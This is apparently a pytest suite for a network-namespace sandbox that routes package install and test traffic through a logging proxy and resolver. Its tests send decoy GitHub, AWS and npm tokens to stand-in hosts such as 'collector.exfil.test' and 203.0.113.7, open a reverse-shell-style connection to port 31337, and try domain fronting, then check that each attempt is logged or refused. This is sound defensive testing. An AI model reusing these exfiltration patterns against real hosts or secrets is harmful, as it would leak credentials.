"""The sandbox namespace: its only way out is the logging proxy, the resolver, or a drop."""

from __future__ import annotations

import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from cujo_action.find.decoys import Decoy, make_decoys
from cujo_action.net.dns.resolver import ResolverConfig, ResolverHandle, start_resolver
from cujo_action.net.egress import parse_egress_log
from cujo_action.net.helperconfig import DecoySpec
from cujo_action.net.ns import netns
from cujo_action.net.ns.layout import Layout
from cujo_action.net.ns.netns import NetNamespace, cleanup_stale, run_in_namespace
from cujo_action.net.ns.nftguard import Redirect, Refused, ruleset
from cujo_action.net.proxy.config import ProxyConfig
from cujo_action.net.proxy.process import ProxyHandle, start_proxy, write_ca_bundle
from cujo_action.sandbox.phase_namespace import NetnsError
from cujo_action.schema import REGISTRY_HOSTS

SINK_HOST = "collector.exfil.test"
# TEST-NET-3 (RFC 5737): routed into the veth, never to a real host.
NOWHERE = "203.0.113.7"
REASON = netns.unavailable()
needs_root = [
    pytest.mark.root,
    pytest.mark.skipif(REASON is not None, reason=f"namespaces unavailable: {REASON}"),
]


def root_only(fn: Callable[..., Any]) -> Callable[..., Any]:
    for mark in needs_root:
        fn = mark(fn)
    return fn


# --------------------------------------------------------------------------- pure parts


@root_only
def test_ruleset_is_valid_nft() -> None:
    text = ruleset(
        Layout("a1b2c3", 3), Redirect(transparent_port=7001, dns_port=7053, proxy_port=7000)
    )
    proc = subprocess.run(["nft", "-c", "-f", "-"], input=text, text=True, capture_output=True)
    assert proc.returncode == 0, proc.stderr


def test_run_in_prefixes_ip_netns_exec() -> None:
    assert run_in_namespace("cujo-a1b2c3", ["curl", "-s"]) == [
        "ip",
        "netns",
        "exec",
        "cujo-a1b2c3",
        "curl",
        "-s",
    ]
    ns = NetNamespace(Redirect(transparent_port=1), run_id="a1b2c3")
    assert ns.run_in(["true"]) == ["ip", "netns", "exec", "ns-a1b2c3", "true"]
    with pytest.raises(NetnsError, match="not created"):
        _ = ns.host_ip
    ns.destroy()  # nothing was made: a no-op
    with pytest.raises(ValueError, match="6 lowercase hex"):
        NetNamespace(Redirect(transparent_port=1), run_id="../etc")


# --------------------------------------------------------------------------- the real thing


LABELS = ["install/install", "tests/test"]


class Upstream(ThreadingHTTPServer):
    """A loopback server on the host that the sandbox must not reach unless allowed."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)


class _Handler(BaseHTTPRequestHandler):
    server: Upstream

    def do_GET(self) -> None:
        self.server.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "8")
        self.end_headers()
        self.wfile.write(b"upstream")

    def log_message(self, format: str, *args: Any) -> None:
        pass


@dataclass
class Rig:
    proxy: ProxyHandle
    resolver: ResolverHandle
    namespaces: dict[str, NetNamespace]
    decoys: tuple[Decoy, ...]
    bundle: Path
    log: Path
    upstream: Upstream

    def run(
        self, label: str, argv: list[str], timeout: float = 20
    ) -> subprocess.CompletedProcess[str]:
        # Proxy variables are set, and ignored by every client below (--noproxy, raw
        # sockets): what a hostile package would do.
        env = {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "http_proxy": "http://127.0.0.1:9",
            "https_proxy": "http://127.0.0.1:9",
        }
        return subprocess.run(
            self.namespaces[label].run_in(argv),
            capture_output=True,
            text=True,
            timeout=timeout,
            env=env,
            check=False,
        )

    def python(self, label: str, code: str) -> subprocess.CompletedProcess[str]:
        return self.run(label, [sys.executable, "-c", code])

    def decoy(self, name: str) -> Decoy:
        return next(d for d in self.decoys if d.name == name)

    def wait(self, pred: Callable[[dict[str, Any]], bool], timeout: float = 15) -> dict[str, Any]:
        """Poll the log until a record matches: lines land after the client is done."""
        deadline = time.monotonic() + timeout
        while True:
            for record in parse_egress_log(self.log.read_bytes()).records:
                if pred(record):
                    return record
            assert self.proxy.alive(), self.proxy.stderr_path.read_text()
            if time.monotonic() > deadline:
                raise AssertionError(f"no matching record in {self.log.read_text()}")
            time.sleep(0.02)


@pytest.fixture(scope="module")
def rig(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Rig]:
    if REASON is not None:
        pytest.skip(f"namespaces unavailable: {REASON}")
    if shutil.which("curl") is None:
        pytest.skip("curl is not installed")
    tmp = tmp_path_factory.mktemp("netns")
    decoys = make_decoys()
    log = tmp / "egress.jsonl"
    specs = [DecoySpec(name=d.name, value=d.value) for d in decoys]
    proxy = start_proxy(
        ProxyConfig(
            labels=LABELS,
            confdir=tmp / "confdir",
            allow_hosts=[*REGISTRY_HOSTS, "localhost"],
            decoys=specs,
            log_path=log,
            ready_path=tmp / "proxy-ready.json",
            transparent=True,
            names_path=tmp / "names.jsonl",
        )
    )
    upstream = Upstream()
    thread = threading.Thread(target=upstream.serve_forever, daemon=True)
    thread.start()
    made: dict[str, NetNamespace] = {}
    resolver: ResolverHandle | None = None
    try:
        resolver = start_resolver(
            ResolverConfig(
                labels=LABELS,
                decoys=specs,
                log_path=log,
                ready_path=tmp / "dns-ready.json",
                names_path=tmp / "names.jsonl",
            ),
            tmp / "dns",
        )
        for label in LABELS:
            redirect = Redirect(
                transparent_port=proxy.transparent_ports[label],
                dns_port=resolver.ports[label],
                proxy_port=proxy.ports[label],
            )
            made[label] = NetNamespace(redirect, state_dir=tmp / "state").create()
        bundle = write_ca_bundle(proxy.ca_cert, tmp / "bundle.pem")
        yield Rig(proxy, resolver, made, decoys, bundle, log, upstream)
    finally:
        for ns in made.values():
            ns.destroy()
        if resolver is not None:
            resolver.stop()
        proxy.stop()
        upstream.shutdown()
        upstream.server_close()
        thread.join()


def tag() -> str:
    return "t" + secrets.token_hex(6)


@root_only
def test_http_ignoring_proxy_variables_is_logged_with_the_phase_label(rig: Rig) -> None:
    t = tag()
    token = rig.decoy("GITHUB_TOKEN").value
    url = f"http://{SINK_HOST}/{t}?k={token}"
    done = rig.run("install/install", ["curl", "-sS", "--noproxy", "*", "--max-time", "10", url])
    assert done.returncode == 0, done.stderr
    record = rig.wait(lambda r: t in r["url"] and r["method"] == "GET")
    assert record["label"] == "install/install"
    assert (record["host"], record["port"], record["action"]) == (SINK_HOST, 80, "sunk")
    assert record["url"] == url
    assert record["decoy_seen"] == ["GITHUB_TOKEN"]
    assert "url:plain" in record["decoy_where"]
    # The name was looked up through the logging resolver first.
    rig.wait(lambda r: r["method"] == "DNS" and r["host"] == SINK_HOST)


@root_only
def test_https_ignoring_proxy_variables_is_logged_with_the_host_from_sni(rig: Rig) -> None:
    t = tag()
    url = f"https://{SINK_HOST}/{t}"
    done = rig.run(
        "tests/test",
        [
            "curl",
            "-sS",
            "--noproxy",
            "*",
            "--cacert",
            str(rig.bundle),
            "--max-time",
            "10",
            "-d",
            rig.decoy("AWS_SECRET_ACCESS_KEY").value,
            url,
        ],
    )
    assert done.returncode == 0, done.stderr
    record = rig.wait(lambda r: t in r["url"])
    assert (record["label"], record["method"], record["host"]) == ("tests/test", "POST", SINK_HOST)
    assert (record["port"], record["url"], record["action"]) == (443, url, "sunk")
    assert record["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]
    # It went to the address the run's resolver gave for that name.
    assert record["addressed"] == SINK_HOST


@root_only
def test_a_name_sent_to_an_address_of_the_clients_own_is_not_addressed_by_it(rig: Rig) -> None:
    # SNI and Host say the sink, but the client chose the address: on a runner the request
    # would reach whoever holds it, so the record never says it went to that name.
    t = tag()
    url = f"https://{SINK_HOST}/{t}"
    done = rig.run(
        "tests/test",
        ["curl", "-sS", "--noproxy", "*", "--cacert", str(rig.bundle), "--max-time", "10",
         "--resolve", f"{SINK_HOST}:443:{NOWHERE}", url],
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    record = rig.wait(lambda r: t in r["url"])
    assert (record["host"], record["route"]) == (SINK_HOST, "direct")
    assert "addressed" not in record


@root_only
def test_tls_refusing_the_runs_ca_is_logged_as_tls_with_its_sni(rig: Rig) -> None:
    # A client with roots of its own (here: curl told to trust one public CA only) goes
    # straight out, is caught, and hangs up at the run's certificate.
    t = tag()
    host = f"{t}.{SINK_HOST}"
    done = rig.run(
        "tests/test",
        ["curl", "-sS", "--noproxy", "*", "--cacert", "/dev/null", "--capath", "/nonexistent",
         "--max-time", "10", f"https://{host}/"],
    )  # fmt: skip
    assert done.returncode != 0, done.stdout
    record = rig.wait(lambda r: r["host"] == host and r["method"] != "DNS")
    assert (record["label"], record["method"], record["route"], record["action"]) == (
        "tests/test",
        "TLS",
        "direct",
        "refused",
    )
    assert record["port"] == 443


@root_only
def test_clients_honouring_proxy_variables_reach_the_regular_port(rig: Rig) -> None:
    t = tag()
    ns = rig.namespaces["install/install"]
    proxy = f"http://{ns.host_ip}:{rig.proxy.ports['install/install']}"
    done = rig.run(
        "install/install",
        ["curl", "-sS", "-x", proxy, "--max-time", "10", f"http://{SINK_HOST}/{t}"],
    )
    assert done.returncode == 0, done.stderr
    record = rig.wait(lambda r: t in r["url"])
    assert (record["label"], record["host"], record["action"]) == (
        "install/install",
        SINK_HOST,
        "sunk",
    )


@root_only
def test_raw_tcp_to_an_address_is_logged_and_refused_with_what_it_sent(rig: Rig) -> None:
    secret = rig.decoy("NPM_TOKEN").value
    code = (
        "import socket\n"
        f"c = socket.create_connection(({NOWHERE!r}, 4444), timeout=10)\n"
        f"c.sendall(b'\\x00\\x01 hello ' + {secret!r}.encode())\n"
        "c.settimeout(10)\n"
        "print(repr(c.recv(100)))\n"
    )
    done = rig.python("tests/test", code)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "b''"  # closed unanswered
    record = rig.wait(lambda r: r["method"] == "TCP" and r["port"] == 4444)
    assert (record["label"], record["host"], record["action"]) == ("tests/test", NOWHERE, "refused")
    assert record["url"] == f"{NOWHERE}:4444"
    assert (record["decoy_seen"], record["decoy_where"]) == (["NPM_TOKEN"], ["tcp:plain"])


@root_only
def test_a_reverse_shell_connect_that_sends_nothing_is_logged(rig: Rig) -> None:
    port = 31337
    code = (
        "import socket\n"
        f"c = socket.create_connection(({NOWHERE!r}, {port}), timeout=10)\n"
        "c.close()\n"
    )
    done = rig.python("install/install", code)
    assert done.returncode == 0, done.stderr
    record = rig.wait(lambda r: r["port"] == port)
    assert (record["method"], record["host"], record["action"]) == ("TCP", NOWHERE, "refused")
    assert record["bytes_out"] == 0


@root_only
def test_udp_is_refused_and_counted_per_destination(rig: Rig) -> None:
    ns = rig.namespaces["tests/test"]
    code = (
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        f"for _ in range(3): s.sendto(b'x' * 10, ({NOWHERE!r}, 9999))\n"
        f"s.sendto(b'y', ({ns.host_ip!r}, 5000))\n"
    )
    assert rig.python("tests/test", code).returncode == 0
    drops = ns.drops()
    assert Refused(NOWHERE, "udp", 9999, 3, 3 * 38) in drops.refused
    assert any(r.dst == ns.host_ip and r.port == 5000 and r.packets == 1 for r in drops.refused)
    assert drops.packets >= 4
    # The other namespace's counters are its own.
    assert not any(r.dst == NOWHERE for r in rig.namespaces["install/install"].drops().refused)


@root_only
def test_nothing_on_the_host_is_reachable_from_the_namespace(rig: Rig) -> None:
    port = rig.upstream.server_address[1]
    ns = rig.namespaces["install/install"]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("0.0.0.0", 0))  # every address: none may be reached
    udp.setblocking(False)
    uport = udp.getsockname()[1]
    try:
        code = (
            "import socket, sys\n"
            "out = []\n"
            f"for host in ('127.0.0.1', {ns.host_ip!r}):\n"
            "    try:\n"
            f"        c = socket.create_connection((host, {port}), timeout=5)\n"
            f"        c.sendall(b'GET /reached HTTP/1.1\\r\\nHost: x.test\\r\\n\\r\\n')\n"
            "        out.append(c.recv(100)[:12])\n"
            "    except OSError as e:\n"
            "        out.append(type(e).__name__)\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            f"s.sendto(b'udp-probe', ({ns.host_ip!r}, {uport}))\n"
            "print(out)\n"
        )
        done = rig.python("install/install", code)
        assert done.returncode == 0, done.stderr
        # The namespace's own loopback refuses; the host address leads to the proxy,
        # which answers for x.test itself.
        assert done.stdout.strip() == "['ConnectionRefusedError', b'HTTP/1.1 200']"
        rig.wait(lambda r: r["host"] == "x.test" and r["port"] == port and r["action"] == "sunk")
        assert rig.upstream.seen == [] or "/reached" not in rig.upstream.seen
        deadline = time.monotonic() + 10
        while not any(r.port == uport for r in ns.drops().refused):
            assert time.monotonic() < deadline, ns.drops()
            time.sleep(0.02)
        with pytest.raises(BlockingIOError):
            udp.recv(100)
    finally:
        udp.close()


@root_only
def test_an_allowed_host_is_forwarded_by_name_not_to_the_address_dialled(rig: Rig) -> None:
    port = rig.upstream.server_address[1]
    t = tag()
    code = (
        "import socket\n"
        f"c = socket.create_connection(({NOWHERE!r}, {port}), timeout=10)\n"
        f"c.sendall(b'GET /{t} HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n'\n"
        "          b'Connection: close\\r\\n\\r\\n')\n"
        "data = b''\n"
        "while chunk := c.recv(4096): data += chunk\n"
        "print(data.split(b'\\r\\n\\r\\n', 1)[1].decode())\n"
    )
    done = rig.python("tests/test", code)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "upstream"
    assert f"/{t}" in rig.upstream.seen
    record = rig.wait(lambda r: t in r["url"])
    assert (record["host"], record["action"]) == ("localhost", "forwarded")


@root_only
def test_a_fronted_request_is_answered_here(rig: Rig) -> None:
    port = rig.upstream.server_address[1]
    t = tag()
    # SNI says the allowed host, Host says another: answered by the proxy, not forwarded.
    code = (
        "import socket, ssl\n"
        f"ctx = ssl.create_default_context(cafile={str(rig.bundle)!r})\n"
        f"raw = socket.create_connection(({NOWHERE!r}, {port}), timeout=10)\n"
        "c = ctx.wrap_socket(raw, server_hostname='localhost')\n"
        f"c.sendall(b'GET /{t} HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')\n"
        "print(c.recv(12))\n"
    )
    done = rig.python("tests/test", code)
    assert done.returncode == 0, done.stderr
    record = rig.wait(lambda r: t in r["url"])
    assert record["action"] == "sunk"
    assert f"/{t}" not in rig.upstream.seen


# --------------------------------------------------------------------------- lifecycle


ALL = ["netns", "veth", "table"]


def _present(ns_name: str, link: str, table: str) -> list[str]:
    """Return which parts of a namespace exist on this host."""
    left = []
    if ns_name in subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout:
        left.append("netns")
    if subprocess.run(["ip", "link", "show", link], capture_output=True).returncode == 0:
        left.append("veth")
    if subprocess.run(["nft", "list", "table", "inet", table], capture_output=True).returncode == 0:
        left.append("table")
    if (netns.NETNS_ETC / ns_name).exists():
        left.append("etc")  # never made now; a stale one is still removed
    return left


@root_only
def test_destroy_removes_everything_and_is_idempotent(tmp_path: Path) -> None:
    ns = NetNamespace(Redirect(transparent_port=9), state_dir=tmp_path)
    with ns:
        lay = ns.layout
        assert lay is not None
        assert _present(lay.name, lay.host_link, lay.table) == ALL
        # A process left behind in the namespace does not keep it alive.
        straggler = subprocess.Popen(ns.run_in(["sleep", "600"]), start_new_session=True)
        # Wait until it is inside (`ip netns exec` has become `sleep`): before that it is
        # not yet a process of the namespace, on a loaded machine for a while.
        cmdline = Path(f"/proc/{straggler.pid}/cmdline")
        deadline = time.monotonic() + 30
        while not cmdline.read_bytes().startswith(b"sleep\0") and time.monotonic() < deadline:
            time.sleep(0.01)
    assert straggler.wait(timeout=10) == -signal.SIGKILL
    assert _present(lay.name, lay.host_link, lay.table) == []
    ns.destroy()
    assert [p.name for p in tmp_path.glob("*.lock")] == ["alloc.lock"]


@root_only
def test_cleanup_stale_removes_a_killed_runs_leftovers_and_spares_live_ones(tmp_path: Path) -> None:
    code = (
        "import sys, time\n"
        "from pathlib import Path\n"
        "from cujo_action.net.ns.netns import NetNamespace\n"
        "from cujo_action.net.ns.nftguard import Redirect\n"
        "ns = NetNamespace(Redirect(transparent_port=9), state_dir=Path(sys.argv[1])).create()\n"
        "print(ns.run_id, flush=True)\n"
        "sys.stdin.read()\n"
    )
    child = subprocess.Popen(
        [sys.executable, "-c", code, str(tmp_path)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert child.stdout is not None
    dead_id = child.stdout.readline().strip()
    with NetNamespace(Redirect(transparent_port=9), state_dir=tmp_path) as live:
        # While the child lives, its namespace is not stale.
        assert dead_id not in cleanup_stale(tmp_path)
        assert _present(f"ns-{dead_id}", f"cujo{dead_id}h", f"cujo_{dead_id}") == ALL
        os.kill(child.pid, signal.SIGKILL)
        child.wait()
        # Another state directory's runs are not this one's to judge, dead or alive.
        assert dead_id not in cleanup_stale(tmp_path / "elsewhere")
        assert _present(f"ns-{dead_id}", f"cujo{dead_id}h", f"cujo_{dead_id}") == ALL
        assert cleanup_stale(tmp_path) == [dead_id]
        assert _present(f"ns-{dead_id}", f"cujo{dead_id}h", f"cujo_{dead_id}") == []
        assert live.layout is not None
        assert _present(live.name, live.layout.host_link, live.layout.table) == ALL
    child.stdin.close()  # type: ignore[union-attr]
    child.stdout.close()


@root_only
def test_concurrent_namespaces_get_distinct_subnets(tmp_path: Path) -> None:
    with (
        NetNamespace(Redirect(transparent_port=9), state_dir=tmp_path) as a,
        NetNamespace(Redirect(transparent_port=9), state_dir=tmp_path) as b,
    ):
        assert a.host_ip != b.host_ip
        out = subprocess.run(a.run_in(["ip", "-j", "-4", "addr"]), capture_output=True, text=True)
        addrs = {i["local"] for link in json.loads(out.stdout) for i in link["addr_info"]}
        assert addrs == {"127.0.0.1", a.sandbox_ip}


@root_only
def test_what_the_namespace_shows_inside_names_nothing_of_cujo(tmp_path: Path) -> None:
    with NetNamespace(Redirect(transparent_port=9), state_dir=tmp_path) as ns:
        out = subprocess.run(ns.run_in(["ip", "-j", "addr"]), capture_output=True, text=True)
        links = {link["ifname"]: link for link in json.loads(out.stdout)}
        # A runner's interface name; and its IPv6 is off, as the namespace's default says.
        assert sorted(links) == ["eth0", "lo"]
        assert [i["family"] for i in links["eth0"]["addr_info"]] == ["inet"]
        names = subprocess.run(ns.run_in(["ls", "/sys/class/net"]), capture_output=True, text=True)
        assert names.stdout.split() == ["eth0", "lo"]
        # The name `ip netns exec` shows in the mount table (/etc/netns/<name>/...).
        assert "cujo" not in ns.name
